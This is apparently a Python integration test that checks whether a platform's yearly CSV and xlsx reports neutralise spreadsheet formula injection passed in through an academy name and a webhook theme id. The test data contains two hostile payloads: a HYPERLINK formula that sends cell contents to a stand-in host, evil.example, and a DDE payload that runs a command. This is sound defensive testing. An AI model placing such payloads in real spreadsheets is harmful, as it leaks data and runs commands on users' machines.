"""Spreadsheet formula injection through the real doors (issue 17).

An academy name chosen by whoever registers the academy, and a theme id inside a UiTdatabank
document that arrives through the signed webhook, reach the yearly report (`stem report
--format csv|xlsx`). Written as they are, a spreadsheet would run `=HYPERLINK(...)` and the
like. Here both travel the whole way: the registry API, the webhook and the delivery worker,
the activities and registry reads the report makes over HTTP, then the CSV and the xlsx.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import date

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from activities.adapters import delivery_store as deliveries
from activities.adapters.orm import activities as activities_table
from activities.adapters.uit_client import Fetched
from activities.service_layer import processing
from gateway.adapters.upstreams import open_upstreams
from gateway.reporting.assemble import build_report
from gateway.reporting.render import render
from gateway.reporting.upstream import HttpReportSource
from tests.abuse.conftest import OPS_TOKEN, UPSTREAMS, Platform, gateway_settings
from tests.abuse.test_webhook_abuse import URL, signed

pytestmark = [pytest.mark.postgres, pytest.mark.kafka]

YEAR = 2025
ACADEMY_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
THEME_ID = '@SUM(1+1)*cmd|" /C calc"!A0'  # a term id of at most 64 characters


class _NoFetch:
    async def fetch(self, iri: str) -> Fetched:
        raise AssertionError(f"a full document needs no fetch, asked for {iri}")


def _event() -> dict[str, object]:
    return {
        "@id": f"https://io.uitdatabank.be/events/{uuid.uuid4()}",
        "mainLanguage": "nl",
        "name": {"nl": "Robots bouwen"},
        "calendarType": "single",
        "startDate": f"{YEAR}-03-01T10:00:00+01:00",
        "endDate": f"{YEAR}-03-01T12:00:00+01:00",
        "workflowStatus": "APPROVED",
        "terms": [{"id": THEME_ID, "domain": "theme", "label": "Wetenschap"}],
        "modified": f"{YEAR}-01-01T00:00:00+00:00",
    }


async def _hostile_data(platform: Platform) -> None:
    ops = {"Authorization": f"Bearer {OPS_TOKEN}"}
    async with platform.client("registry") as registry:
        created = await registry.post("/academies", json={"name": ACADEMY_NAME}, headers=ops)
        assert created.status_code == 201, created.text
        academy_id = created.json()["id"]
        reported = await registry.post(
            f"/academies/{academy_id}/participant-reports",
            json={"year": YEAR, "participants": 12},
            headers=ops,
        )
        assert reported.status_code == 201, reported.text

    event = _event()
    body = json.dumps(event)
    async with platform.client("activities") as activities:
        answer = await activities.post(URL, content=body, headers=signed(body))
        assert answer.status_code in (200, 202), answer.text
    sessions = platform.apps["activities"].state.database.session_factory
    async with sessions() as session:
        due = [d for d in await deliveries.due(session, 1000) if d.body == body]
    assert len(due) == 1
    assert await processing.process(sessions, _NoFetch(), due[0]) == "processed"
    # The calendar counts the activities of academies. Linking an organizer to an academy
    # travels as registry events, which this in-process platform does not consume: link here.
    activity_id = str(event["@id"]).rsplit("/", 1)[-1]
    async with sessions() as session, session.begin():
        linked = await session.execute(
            update(activities_table)
            .where(activities_table.c.activity_id == activity_id)
            .values(academy_id=academy_id)
        )
        assert linked.rowcount == 1


@pytest.fixture(scope="module")
async def exported(
    platform: Platform, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, bytes]:
    await _hostile_data(platform)
    settings = gateway_settings(tmp_path_factory.mktemp("report"))
    transports = {name: httpx.ASGITransport(platform.apps[name]) for name in UPSTREAMS}
    upstreams = open_upstreams(settings, transports)
    try:
        report = await build_report(HttpReportSource(upstreams), YEAR, today=date(YEAR, 12, 31))
    finally:
        await upstreams.aclose()
    assert ACADEMY_NAME in {a.name for a in report.participants.academies}
    assert THEME_ID in {c.key for t in report.trend for c in t.themes}
    return {kind: render(report, kind) for kind in ("csv", "xlsx")}


def test_the_csv_report_starts_no_cell_with_a_formula(exported: dict[str, bytes]) -> None:
    rows = list(csv.reader(io.StringIO(exported["csv"].decode())))
    cells = [cell for row in rows for cell in row]

    assert "'" + ACADEMY_NAME in cells and "'" + THEME_ID in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_the_xlsx_report_holds_no_formula(exported: dict[str, bytes]) -> None:
    book = load_workbook(io.BytesIO(exported["xlsx"]))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]

    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    text = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    assert text["'" + ACADEMY_NAME] == "s" and text["'" + THEME_ID] == "s"
    assert ACADEMY_NAME not in text and THEME_ID not in text
